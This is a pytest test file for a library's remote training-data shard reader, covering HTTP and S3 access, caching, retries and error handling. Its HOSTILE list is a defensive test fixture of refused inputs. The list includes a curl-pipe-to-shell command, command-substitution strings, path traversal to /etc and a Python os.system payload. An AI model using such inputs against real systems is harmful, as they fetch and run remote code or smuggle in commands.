from __future__ import annotations

import contextlib
import errno
import fcntl
import multiprocessing
import os
import pickle
import random
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import numpy as np
import pytest
from range_server import Server, serving

from sltscale.data.shards import remote
from sltscale.data.shards.remote import LocalShards, RemoteShards, shard_source
from sltscale.errors import InputError

pytest.importorskip("aiohttp", reason="aiohttp is not installed (extra: remote)")

SIZE = 300_000


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Server]:
    folder = tmp_path / "served"
    folder.mkdir()
    (folder / "a.tar").write_bytes(np.random.default_rng(0).bytes(SIZE))
    (folder / "dev.index.safetensors").write_bytes(b"index" * 1000)
    (folder / "train.index.safetensors").write_bytes(b"i")
    with serving(folder) as server:
        yield server


@pytest.fixture(autouse=True)
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A cache of this test's own, and short pauses."""
    monkeypatch.setenv("SLTSCALE_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("SLTSCALE_CACHE_GB", "0.1")
    monkeypatch.setenv("no_proxy", "127.0.0.1")
    monkeypatch.setattr(remote, "FIRST_PAUSE", 0.02)
    return tmp_path / "cache"


def kept(cache: Path) -> list[Path]:
    """What a reader may find in the cache, and scratch files."""
    return [path for path in cache.glob("*/*") if path.is_file()]


HOSTILE = [
    "pipe:touch canary",
    "pipe:curl -s https://example.org/x.tar | sh",
    "simplecache::https://example.org/shards",
    "https://example.org/shards::pipe:touch canary",
    "https://example.org/$(touch canary)",
    "https://example.org/shards;touch canary",
    "https://example.org/`touch canary`",
    "https://example.org/a/../../etc",
    "https://example.org/a/%2e%2e/etc",
    "https://example.org/$HOME/shards",
    "https://${HOST}/shards",
    "https://example.org/x\nInjected: header",
    "https://example.org/shards?X-Amz-Signature=secret",
    "https://user:secret@example.org/shards",
    "https://user:se/cret@example.org/shards",
    "http://example.org/shards",
    "http://127.0.0.1.example.org/shards",
    "http://localhost@example.org/shards",
    "HTTPS://example.org/shards",
    "https:/example.org/shards",
    "s3://",
    "s3://key:secret@bucket/shards",
    "file:///etc",
    "gs://bucket/shards",
    "ftp://example.org/x",
    "github://org:repo@main/x",
    "reference://x",
    "python:__import__('os').system('touch canary')",
]


@pytest.mark.parametrize("url", HOSTILE)
def test_hostile_urls_are_refused_in_one_line(url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(InputError) as caught:
        shard_source(url)
    message = str(caught.value)
    assert "\n" not in message and "cret" not in message
    assert "expected a folder, https://HOST/PATH or s3://BUCKET/PATH" in message
    assert ("credentials" in message) == ("@" in url and url.startswith(("http", "s3")))
    assert list(tmp_path.iterdir()) == []


def test_plain_addresses_are_taken_as_they_are(tmp_path: Path) -> None:
    urls = ("https://example.org/a/b_c-1.0/", "s3://bucket/a", "s3://bucket", "http://localhost:8080/x", "https://h")
    for url in urls:
        source = shard_source(url)
        assert isinstance(source, RemoteShards) and source.address("x.tar") == f"{url.rstrip('/')}/x.tar"
    for folder in (tmp_path, "../shards", "shards/$HOME", "a|b;c"):
        source = shard_source(folder)
        assert isinstance(source, LocalShards) and source.folder == Path(folder)


@pytest.mark.parametrize("name", ["../x", "a/b", "", "x y", "x?y", "-rf", "..", ".hidden", "x\n"])
def test_file_names_from_an_index_stay_below_the_url(name: str) -> None:
    with pytest.raises(InputError, match="file name") as caught:
        RemoteShards("https://example.org/x").read(name, 0, 1)
    assert "\n" not in str(caught.value)


def open_below(folder: Path) -> int:
    return sum(Path(os.path.realpath(file)).is_relative_to(folder) for file in Path("/proc/self/fd").iterdir())


def test_a_folder(tmp_path: Path) -> None:
    for number in range(remote.OPEN_SHARDS + 20):
        (tmp_path / f"dev-{number:06d}.tar").write_bytes(f"{number:06d}".encode() * 10)
    source = LocalShards(tmp_path)
    before = open_below(tmp_path)
    source.prefetch([("dev-000003.tar", 0, 6), ("missing.tar", 0, 6)])
    for number in range(remote.OPEN_SHARDS + 20):
        assert source.read(f"dev-{number:06d}.tar", 6, 12) == f"{number:06d}".encode() * 2
    assert (before, open_below(tmp_path)) == (0, remote.OPEN_SHARDS)
    assert source.read("dev-000000.tar", 57, 100) == b"000" and source.size("dev-000000.tar") == 60
    assert source.size("missing.tar") is None
    assert source.names("dev-00000[12].tar") == ["dev-000001.tar", "dev-000002.tar"]
    assert source.local_copy("dev-000000.tar") == tmp_path / "dev-000000.tar"
    with source.open("dev-000001.tar") as file:
        assert file.read(7) == b"0000010"
    with pytest.raises(InputError, match=r"missing\.tar: No such file.*shards verify"):
        source.read("missing.tar", 0, 1)

    def read(number: int) -> bytes:
        return source.read(f"dev-{number % 84:06d}.tar", 0, 6)

    with ThreadPoolExecutor(8) as pool:
        assert list(pool.map(read, range(2000))) == [f"{number % 84:06d}".encode() for number in range(2000)]


@pytest.mark.parametrize("number", [errno.EIO, errno.ESTALE])
def test_a_file_system_that_fails_for_a_while(
    number: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Like NFS while its server starts again: a file that was open has to be opened anew."""
    path, failing, pread = tmp_path / "a.tar", 2, os.pread
    path.write_bytes(b"0123456789")
    source = LocalShards(tmp_path)
    assert source.read("a.tar", 0, 2) == b"01"
    path.rename(tmp_path / "old.tar")
    path.write_bytes(b"abcdefghij")

    def fail(*arguments: int) -> bytes:
        nonlocal failing
        failing -= 1
        if failing >= 0:
            raise OSError(number, os.strerror(number))
        return pread(*arguments)

    monkeypatch.setattr(remote, "FIRST_PAUSE", 0.001)
    monkeypatch.setattr(os, "pread", fail)
    assert source.read("a.tar", 4, 3) == b"efg"
    first, second = capsys.readouterr().err.splitlines()
    assert first.startswith("warning: ") and first.endswith(f"{path}: {os.strerror(number)}; try 1 of 5")
    assert second.endswith("try 2 of 5")
    failing = 5
    with pytest.raises(InputError, match=r"a\.tar: .*, 5 times; see sltscale shards verify"):
        source.read("a.tar", 4, 3)
    number, failing = errno.EACCES, 1
    with pytest.raises(InputError, match=r"a\.tar: Permission denied; see"):
        source.read("a.tar", 4, 3)


def test_clips_are_fetched_once(server: Server, cache: Path) -> None:
    data = (server.folder / "a.tar").read_bytes()
    source = shard_source(server.url)
    for offset, size in ((0, 10), (1000, 50_000), (SIZE - 5, 5), (0, SIZE), (7, 0)):
        for _ in range(2):
            assert source.read("a.tar", offset, size) == data[offset : offset + size]
    assert server.gets["a.tar"] == 4 and server.heads["a.tar"] == 1
    assert shard_source(server.url).read("a.tar", 1000, 50_000) == data[1000:51_000]
    assert server.gets["a.tar"] == 4
    assert all(len(path.name) == 64 for path in kept(cache))  # digests, never names from outside
    assert cache.stat().st_mode & 0o777 == 0o700


def test_a_shard_that_was_replaced_is_fetched_again(server: Server) -> None:
    assert shard_source(server.url).read("dev.index.safetensors", 0, 5) == b"index"
    path = server.folder / "dev.index.safetensors"
    path.write_bytes(b"other" * 1000)
    os.utime(path, ns=(1, 1))
    assert shard_source(server.url).read("dev.index.safetensors", 0, 5) == b"other"


@pytest.mark.parametrize("faults", [["503", "503"], ["cut"], ["stall"], ["stall half"], ["short"], ["429"], ["408"]])
def test_what_may_pass_is_tried_again(server: Server, faults: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
    if faults[0].startswith("stall"):
        monkeypatch.setattr(remote, "READ_SECONDS", 1.0)
    server.faults["a.tar"] = list(faults)
    retries = remote.retries()
    before = random.getstate(), np.random.get_state()[1].tolist()
    assert shard_source(server.url).read("a.tar", 5, 100_000) == (server.folder / "a.tar").read_bytes()[5:100_005]
    assert server.gets["a.tar"] == len(faults) + 1 and server.faults["a.tar"] == []
    assert remote.retries() - retries == len(faults)
    assert (random.getstate(), np.random.get_state()[1].tolist()) == before  # they belong to the training


def test_pauses_grow_and_differ(server: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    pauses: list[float] = []
    monkeypatch.setattr(remote, "FIRST_PAUSE", 0.5)
    ours, sleep = threading.current_thread(), time.sleep
    monkeypatch.setattr(
        remote.time, "sleep", lambda pause: pauses.append(pause) if threading.current_thread() is ours else sleep(pause)
    )
    server.faults["a.tar"] = ["503"] * 10
    with pytest.raises(InputError, match="status 503, 5 times"):
        shard_source(server.url).read("a.tar", 0, 9)
    waits = [pause for pause in pauses if pause]
    assert server.gets["a.tar"] == 5 and len(waits) == 4
    assert all(full / 2 <= pause <= full for pause, full in zip(waits, (0.5, 1, 2, 4), strict=True))


@pytest.mark.parametrize(
    ("fault", "reason", "tries"),
    [
        ("404", "not found", 1),
        ("403", "status 403", 1),
        ("401", "status 401", 1),
        ("400", "status 400", 1),
        ("500", "status 500, 5 times", 5),
        ("cut", "ClientPayloadError, 5 times", 5),
        ("short", "93 bytes of 100, 5 times", 5),
        ("no ranges", "no answer in byte ranges", 1),
    ],
)
def test_what_does_not_pass_is_one_line(server: Server, cache: Path, fault: str, reason: str, tries: int) -> None:
    server.faults["a.tar"] = [fault] * 9
    with pytest.raises(InputError) as caught:
        shard_source(server.url).read("a.tar", 50, 100)
    assert f"{server.url}/a.tar: {reason}" in str(caught.value) and "\n" not in str(caught.value)
    assert server.gets["a.tar"] == tries
    assert kept(cache) == []


def test_a_server_that_is_not_there(server: Server) -> None:
    server.shutdown()
    server.server_close()
    with pytest.raises(InputError, match=r"a\.tar: ClientConnectorError, 5 times"):
        shard_source(server.url).read("a.tar", 0, 9)


def test_a_range_past_the_end_is_not_asked_for(server: Server) -> None:
    with pytest.raises(InputError, match=f"has {SIZE} bytes, but bytes up to {SIZE + 1} are wanted"):
        shard_source(server.url).read("a.tar", SIZE - 9, 10)
    assert server.gets["a.tar"] == 0


def test_sizes_names_and_whole_files(server: Server, cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(remote, "PART", 1000)  # so that there are several
    source = shard_source(server.url)
    assert source.size("a.tar") == SIZE and source.size("b.tar") is None
    assert source.names("*.index.safetensors") == ["dev.index.safetensors", "train.index.safetensors"]
    with source.open("dev.index.safetensors") as file:
        assert file.peek(8)[:8] == b"indexind"
        assert file.read() == b"index" * 1000
    server.faults["dev.index.safetensors"] = ["", "503", "", "cut", "short"]
    before = server.gets["dev.index.safetensors"]
    path = source.local_copy("dev.index.safetensors")
    assert path.read_bytes() == b"index" * 1000 and cache in path.parents
    assert shard_source(server.url).local_copy("dev.index.safetensors") == path
    assert server.gets["dev.index.safetensors"] - before == 5 + 3
    path.write_bytes(b"half")
    assert source.local_copy("dev.index.safetensors").read_bytes() == b"index" * 1000
    for missing in (lambda: source.local_copy("b.tar"), lambda: source.open("b.tar")):
        with pytest.raises(InputError, match=r"b\.tar: not found"):
            missing()


def test_prefetching_reads_several_at_once(server: Server) -> None:
    server.delay = 0.05
    source = shard_source(server.url)
    ranges = [("a.tar", 1000 * number, 1000) for number in range(24)]
    source.prefetch([*ranges, ("missing.tar", 0, 5)])
    assert 4 <= server.most_busy <= remote.THREADS and server.gets["a.tar"] == 24
    data = (server.folder / "a.tar").read_bytes()
    assert [source.read(*wanted) for wanted in ranges] == [data[o : o + size] for _, o, size in ranges]
    assert server.gets["a.tar"] == 24


def test_the_least_recently_used_clips_go(server: Server, cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SLTSCALE_CACHE_GB", str(10 * 1004 / 1e9))
    source = shard_source(server.url)
    for number in range(10):
        source.read("a.tar", number * 1000, 1000)
        time.sleep(0.01)  # the file system's clock ticks every few milliseconds
    assert len(kept(cache)) == 10
    source.read("a.tar", 0, 1000)  # used again: 1 and 2 are the oldest now
    dead = cache / kept(cache)[0].parent.name / "left.tmp"
    dead.write_bytes(b"of a killed process")
    os.utime(dead, (1, 1))
    source.read("a.tar", 10_000, 1000)
    assert len(kept(cache)) == 9 and not dead.exists()
    before = server.gets["a.tar"]
    for number in (0, *range(3, 11)):
        source.read("a.tar", number * 1000, 1000)
    assert server.gets["a.tar"] == before
    source.read("a.tar", 1000, 1000)
    assert server.gets["a.tar"] == before + 1
    assert source.read("a.tar", 0, 20_000) and len(kept(cache)) == 10  # larger than the cache: not kept


def test_damaged_and_vanished_cache_files_are_fetched_again(server: Server, cache: Path) -> None:
    source = shard_source(server.url)
    expected = source.read("a.tar", 3, 5000)
    (path,) = kept(cache)
    for content in (b"", bytes(5004), path.read_bytes()[:-1], path.read_bytes()[:100] + b"x" + path.read_bytes()[101:]):
        path.write_bytes(content)
        assert source.read("a.tar", 3, 5000) == expected
        assert path.stat().st_size == 5004
    path.unlink()
    assert source.read("a.tar", 3, 5000) == expected
    (cache / "used").write_bytes(b"rubbish")
    assert source.read("a.tar", 4, 5000) == (server.folder / "a.tar").read_bytes()[4:5004]
    assert int((cache / "used").read_bytes()) == 2 * 5004


def hammer(url: str, data: bytes, seed: int) -> int:
    """Reads right bytes 300 times; the most that lay in the cache."""
    source, rng, most = shard_source(url), np.random.default_rng(seed), 0
    for number in range(300):
        offset, size = 1000 * int(rng.integers(40)), int(rng.choice((500, 900, 2000)))
        assert source.read("a.tar", offset, size) == data[offset : offset + size]
        if number % 10 == 0:
            cache = Path(os.environ["SLTSCALE_CACHE"])
            with (cache / "used").open() as used:
                fcntl.flock(used, fcntl.LOCK_EX)  # so that nobody adds a file meanwhile
                lying = 0
                for path in kept(cache):
                    with contextlib.suppress(FileNotFoundError):  # a scratch file that has got its name
                        lying += path.stat().st_size
            most = max(most, lying)
    return most


def test_processes_share_a_small_cache(server: Server, cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    limit = 20_000
    monkeypatch.setenv("SLTSCALE_CACHE_GB", str(limit / 1e9))
    data = (server.folder / "a.tar").read_bytes()
    with multiprocessing.get_context("fork").Pool(3) as pool:
        most = pool.starmap(hammer, [(server.url, data, seed) for seed in range(3)])
    assert limit / 2 < max(most) <= limit
    assert sum(path.stat().st_size for path in kept(cache)) <= limit
    assert not [path for path in kept(cache) if path.suffix == ".tmp"]


def read_some(source: RemoteShards) -> bytes:
    return source.read("a.tar", 10, 2000)


@pytest.mark.parametrize("method", ["fork", "spawn"])
def test_travels_to_other_processes(server: Server, method: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SLTSCALE_CACHE_GB", "0")
    source = shard_source(server.url)
    expected = read_some(source)  # connected before the fork
    assert read_some(pickle.loads(pickle.dumps(source))) == expected  # noqa: S301
    if method == "spawn":
        code = "import sys; from sltscale.data.shards.remote import shard_source as s; "
        code += "sys.stdout.buffer.write(s(sys.argv[1])"
        command = [sys.executable, "-c", f"{code}.read('a.tar', 10, 2000))", server.url]
        assert subprocess.run(command, capture_output=True, timeout=600, check=True).stdout == expected
    else:
        context = multiprocessing.get_context("fork")
        queue = context.SimpleQueue()
        process = context.Process(target=lambda: queue.put(read_some(source)))
        process.start()
        process.join(600)
        process.kill()
        assert process.exitcode == 0 and queue.get() == expected


CHILD = """
import resource, sys
from sltscale.data.shards.remote import shard_source
source = shard_source(sys.argv[1])
if sys.argv[2] == "full":
    resource.setrlimit(resource.RLIMIT_FSIZE, (1000, 1000))
    source.prefetch([("a.tar", 3000 * n, 3000) for n in range(20)])
    print(all(len(source.read("a.tar", 3000 * n, 3000)) == 3000 for n in range(20)))
    try:
        source.local_copy("a.tar")
    except Exception as error:
        print(type(error).__name__, error)
else:
    print("begins", flush=True)
    print(source.local_copy("big.bin"))
"""


def child(url: str, kind: str) -> subprocess.Popen[str]:
    arguments = [sys.executable, "-c", CHILD, url, kind]
    return subprocess.Popen(arguments, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def test_a_full_disk_is_said_once_and_reading_goes_on(server: Server, cache: Path) -> None:
    process = child(server.url, "full")
    output, errors = process.communicate(timeout=600)
    assert output.startswith("True\nInputError") and f"{SIZE} bytes are needed for {server.url}/a.tar" in output
    assert errors.count("going on without a cache") == 1 and errors.count("\n") == 1
    assert kept(cache) == []


def until(condition: Callable[[], object]) -> None:
    end = time.monotonic() + 600
    while not condition():
        assert time.monotonic() < end
        time.sleep(0.02)


def test_killed_in_the_middle_of_a_download(server: Server, cache: Path) -> None:
    content = np.random.default_rng(1).bytes(remote.PART + 5000)
    (server.folder / "big.bin").write_bytes(content)
    server.faults["big.bin"] = ["", "stall"]
    process = child(server.url, "kill")
    until(lambda: server.gets["big.bin"] == 2)
    assert [path.suffix for path in kept(cache)] == [".tmp"]
    process.send_signal(signal.SIGKILL)
    process.communicate(timeout=600)
    assert [path.suffix for path in kept(cache)] == [".tmp"]  # and no file under its final name
    server.released.set()
    path = shard_source(server.url).local_copy("big.bin")
    assert path.read_bytes() == content and server.gets["big.bin"] == 4


@pytest.mark.parametrize(("url", "package"), [("https://example.org/x", "aiohttp"), ("s3://bucket/x", "s3fs")])
def test_a_missing_package_names_the_extra(url: str, package: str, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in (package, "botocore", "botocore.exceptions") if package == "s3fs" else (package,):
        monkeypatch.setitem(sys.modules, name, None)
    with pytest.raises(InputError, match=r'pip install "sltscale\[remote\]"'):
        shard_source(url).size("x.tar")


@pytest.mark.parametrize("gigabytes", ["much", "-1", "nan", "inf", ""])
def test_a_cache_limit_that_is_none(gigabytes: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SLTSCALE_CACHE_GB", gigabytes)
    with pytest.raises(InputError, match=r"SLTSCALE_CACHE_GB is .*; expected a number of gigabytes"):
        shard_source("https://example.org/x")


def test_s3(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    s3fs = pytest.importorskip("s3fs", reason="s3fs is not installed (extra: remote)")
    moto_server = pytest.importorskip("moto.server", reason="moto not installed")
    for name, value in {"ACCESS_KEY_ID": "test", "SECRET_ACCESS_KEY": "test", "DEFAULT_REGION": "us-east-1"}.items():
        monkeypatch.setenv(f"AWS_{name}", value)
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    monkeypatch.setattr(remote, "READ_SECONDS", 10)
    server = moto_server.ThreadedMotoServer("127.0.0.1", 0)
    server.start()
    try:
        host, port = server.get_host_and_port()
        monkeypatch.setenv("AWS_ENDPOINT_URL", f"http://{host}:{port}")
        data = np.random.default_rng(0).bytes(20_000)
        files = s3fs.S3FileSystem(skip_instance_cache=True)
        files.mkdir("bucket")
        files.pipe({f"bucket/c/{name}": data for name in ("a.tar", "dev.index.safetensors", "x y")})
        source = shard_source("s3://bucket/c")
        assert source.read("a.tar", 100, 3000) == data[100:3100]
        source.prefetch([("a.tar", n, 50) for n in range(30)])
        assert source.local_copy("dev.index.safetensors").read_bytes() == data
        with source.open("a.tar") as file:
            assert file.read() == data
        assert source.names("*.index.safetensors") == ["dev.index.safetensors"]
        assert source.names("*") == ["a.tar", "dev.index.safetensors"]
        assert source.size("a.tar") == 20_000 and source.size("b.tar") is None
        with pytest.raises(InputError, match=r"s3://bucket/c/b\.tar: not found"):
            source.read("b.tar", 0, 5)
        with pytest.raises(InputError, match=r"s3://other/c/a\.tar: not found"):
            shard_source("s3://other/c").read("a.tar", 0, 5)
        for name in ("ACCESS_KEY_ID", "SECRET_ACCESS_KEY"):
            monkeypatch.delenv(f"AWS_{name}")
        monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(tmp_path / "none"))
        with pytest.raises(InputError, match=r"s3://bucket/c/a\.tar: .*Credentials.*; expected") as caught:
            shard_source("s3://bucket/c").read("a.tar", 0, 5)
        assert "\n" not in str(caught.value)
        files.rm("bucket/c/a.tar")
    finally:
        server.stop()
    with pytest.raises(InputError, match=r"a\.tar: .*, 5 times"):
        monkeypatch.setenv("AWS_ACCESS_KEY_ID", "test")
        monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "test")
        shard_source("s3://bucket/c").read("a.tar", 0, 5)
